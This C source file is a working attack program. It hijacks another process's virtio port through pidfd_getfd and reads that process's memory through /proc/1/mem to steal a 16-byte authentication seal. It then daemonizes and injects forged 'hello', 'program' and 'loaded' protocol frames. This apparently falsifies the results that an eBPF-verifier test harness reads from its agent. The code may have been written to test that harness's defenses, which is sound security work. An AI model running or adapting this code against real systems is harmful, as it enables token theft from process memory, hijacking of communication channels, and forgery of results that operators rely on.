// Attacks the agent: takes its port, looks up its seal in its memory, and writes the answers to the next requests once
// the harness has stopped reading. Its argument is how many times the agent may write before that.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define LOADED_START "{\"type\":\"loaded\",\"id\":2"

static int take_port(void)
{
	int agent = syscall(SYS_pidfd_open, 1, 0);

	for (int number = 0; number < 256; number++) {
		char path[64], target[64] = "";

		snprintf(path, sizeof(path), "/proc/1/fd/%d", number);
		if (readlink(path, target, sizeof(target) - 1) > 0 && strstr(target, "vport"))
			return syscall(SYS_pidfd_getfd, agent, number, 0);
	}
	return -1;
}

// The agent has written `loaded` since the last greeting, and the bytes of that frame are still somewhere in its memory.
static int find_seal(char *seal)
{
	static char block[1 << 20];
	FILE *maps = fopen("/proc/1/maps", "r");
	int memory = open("/proc/1/mem", O_RDONLY), found = 0;
	char line[512];

	while (fgets(line, sizeof(line), maps)) {
		unsigned long from, to;
		char mode[8];

		if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) != 3 || mode[1] != 'w')
			continue;
		for (; from < to; from += sizeof(block)) {
			ssize_t size = pread(memory, block, sizeof(block), from);
			char *at = block;

			while (size > 64 && (at = memmem(at, block + size - at, "XBPF", 4)) && at + 64 <= block + size) {
				if (!strncmp(at + 28, LOADED_START, strlen(LOADED_START)))
					memcpy(seal, at + 4, 16), found = 1;
				at += 4;
			}
		}
	}
	return found;
}

static void send_frame(int port, const char *seal, const char *message)
{
	char frame[4096];
	unsigned int sizes[2] = { strlen(message), 0 };

	memcpy(frame, "XBPF", 4);
	memcpy(frame + 4, seal, 16);
	memcpy(frame + 20, sizes, 8);
	memcpy(frame + 28, message, sizes[0]);
	write(port, frame, 28 + sizes[0]);
}

#define HELLO "{\"type\":\"hello\",\"id\":4,\"protocol\":3,\"btf\":true,\"jit\":true,\"warnings\":[]," \
	"\"agent\":{\"version\":\"0.1.0\",\"os\":\"linux\",\"arch\":\"amd64\"}," \
	"\"kernel\":{\"release\":\"6.1.0\",\"build\":\"#1\",\"machine\":\"x86_64\"}}"
#define PROGRAM "{\"type\":\"program\",\"id\":5,\"name\":\"pass\",\"section\":\"xdp\",\"programType\":\"xdp\"," \
	"\"verdict\":\"reject\",\"errno\":\"EACCES\",\"message\":\"forged\",\"stage\":\"load\",\"missing\":null," \
	"\"insns\":1,\"peakStates\":1,\"totalStates\":1,\"stackDepths\":[0],\"source\":null,\"logBytes\":0," \
	"\"logOmitted\":0,\"loadNs\":1}"
#define LOADED "{\"type\":\"loaded\",\"id\":5,\"programs\":1,\"kernelLog\":[\"forged\"]}"

// How often the agent has called write(2).
static long count_writes(void)
{
	char text[512] = "", *at;
	int file = open("/proc/1/io", O_RDONLY);

	read(file, text, sizeof(text) - 1);
	close(file);
	at = strstr(text, "syscw: ");
	return at ? atol(at + 7) : 0;
}

int main(int count, char **arguments)
{
	char seal[16] = "";
	int port = take_port();

	if (port < 0 || !find_seal(seal)) {
		fprintf(stderr, "no port or no seal\n");
		return 1;
	}
	if (fork() != 0)
		return 0;
	setsid();
	for (int number = 0; number < 3; number++)
		close(number); // the step waits for who holds its output
	for (long enough = count_writes() + atol(arguments[1]); count_writes() < enough;)
		;
	send_frame(port, seal, HELLO);
	send_frame(port, seal, PROGRAM);
	send_frame(port, seal, LOADED);
	pause();
}
